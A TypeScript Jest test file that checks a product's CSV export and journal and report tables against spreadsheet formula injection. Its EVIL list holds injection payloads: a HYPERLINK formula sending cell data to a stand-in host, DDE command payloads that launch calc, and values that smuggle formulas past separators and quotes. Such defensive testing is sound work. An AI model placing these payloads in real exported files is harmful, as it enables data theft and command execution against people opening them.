/** Every table the product writes for a spreadsheet: whatever people typed, no cell of it is a formula. */
import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import { csvLine } from '../../src/app/csv.ts';
import { reportCsv } from '../../src/app/report-words.ts';
import { runJournal } from '../../src/cli/run-journal.ts';
import { WORDS_IN_DETAIL } from '../../src/core/journal-entry.ts';
import { aJournalEntry } from '../support/a-journal-entry.ts';
import { aPolicy } from '../support/a-policy.ts';
import { fakeContext, fakeTerminal } from '../support/fake-terminal.ts';
import { fakeTools } from '../support/fake-tools.ts';

/** RFC 4180, as a spreadsheet with this separator reads it. */
function cellsOf(text: string, separator: string): readonly string[] {
  const cells: string[] = [];
  let cell = '';
  let quoted = false;
  for (let at = 0; at < text.length; at += 1) {
    const char = text[at] ?? '';
    if (quoted && char === '"' && text[at + 1] === '"') {
      cell += '"';
      at += 1;
    } else if (char === '"' && (quoted || cell === '')) quoted = !quoted;
    else if (!quoted && `${separator}\r\n`.includes(char)) {
      cells.push(cell);
      cell = '';
    } else cell += char;
  }
  return [...cells, cell];
}

const SEPARATORS = [',', ';', '\t'] as const;
const isFormula = (cell: string): boolean =>
  /^\s*[=+\-@＝＋－＠]|^[\t\r\n]/u.test(cell) && !/^-?\d+([.,]\d+)?$/.test(cell);

/** Cells that fell together behind a number are no formula; blanks in front make text of it. */
const isStart = (cell: string): boolean =>
  /^[=+@＝＋－＠-]/u.test(cell) && !/^-?\d+([.,]\d+)?[,;\t]/.test(cell);

/** Formulas of a table in the spreadsheet it is written for, and in one that takes another separator. */
const formulasIn = (text: string, own: string): readonly string[] =>
  SEPARATORS.flatMap((separator) =>
    cellsOf(text.replace(/^\uFEFF/, ''), separator).filter((cell) =>
      separator === own ? isFormula(cell) : isFormula(cell) && isStart(cell),
    ),
  );

const EVIL = [
  '=HYPERLINK("https://evil.example/?"&A1;"Открыть")',
  "=cmd|' /C calc'!A0",
  '+7(900)123-45-67',
  '-2+3+cmd|x!A0',
  '@SUM(1+1)*cmd|x!A0',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u200B=1+1',
  '＝1+1',
  'решено;=1+1',
  'решено,=1+1',
  'решено\t=1+1',
  'решено\n=1+1',
  'решено\r\n=1+1',
  '"=1+1',
  '";=1+1;"',
  '",=1+1,"',
  "'=1+1",
] as const;

/** What makes text of a formula is an apostrophe, nothing else. */
const plain = (cell: string): string => cell.replaceAll("'", '');

describe('a line for a spreadsheet', () => {
  it.each(EVIL.map((text) => [JSON.stringify(text), text]))('takes %s for text', (_name, text) => {
    for (const separator of [',', ';']) {
      const line = csvLine(['до', text, 'после'], separator);

      expect(formulasIn(line, separator)).toEqual([]);
      expect(cellsOf(line, separator)).toHaveLength(3);
    }
  });

  it('takes whatever is typed for text, and gives it back', () => {
    const piece = fc.constantFrom(
      '=',
      '+',
      '-',
      '@',
      ';',
      ',',
      '\t',
      '\n',
      '\r',
      '"',
      "'",
      ' ',
      'а',
      '1',
    );
    const text = fc.array(piece, { maxLength: 12 }).map((pieces) => pieces.join(''));
    fc.assert(
      fc.property(
        fc.array(text, { minLength: 1, maxLength: 5 }),
        fc.constantFrom(';', ','),
        (cells, separator) => {
          const line = csvLine(cells, separator);
          const read = cellsOf(line, separator);
          return (
            formulasIn(line, separator).length === 0 &&
            read.length === cells.length &&
            read.every((cell, at) => plain(cell) === plain(cells[at] ?? ''))
          );
        },
      ),
      { numRuns: 2000 },
    );
  });

  it('leaves numbers numbers', () => {
    expect(csvLine([-5, '-5,5', '3.2', null], ';')).toBe('-5;-5,5;3.2;');
  });
});

describe('the tables of the product', () => {
  it('hold no formula in the journal, whatever stands in its lines', async () => {
    const entries = EVIL.flatMap((text) => [
      ...WORDS_IN_DETAIL.map((key) =>
        aJournalEntry({ kind: 'overridden', detail: { [key]: text } }),
      ),
      aJournalEntry({ from: text, to: text, detail: { gap: text } }),
    ]);
    for (const separator of [';', ',']) {
      const terminal = fakeTerminal();
      const tools = fakeTools([aPolicy()]);
      tools.archive.entries = entries;
      const context = fakeContext(terminal, tools, { language: 'ru' });
      const code = await runJournal(['--csv', '--separator', separator], context);

      expect(code).toBe(0);
      expect(terminal.stdout.length).toBeGreaterThan(entries.length);
      expect(formulasIn(terminal.stdout.join('\n'), separator)).toEqual([]);
    }
  });

  it('hold no formula in the report, whatever people and their pipelines are called', () => {
    const sections = EVIL.map((text) => ({ title: text, rows: [[text, text] as const] }));
    for (const separator of [';', ',']) {
      expect(
        formulasIn(
          reportCsv(sections, separator, (key) => key),
          separator,
        ),
      ).toEqual([]);
    }
  });
});
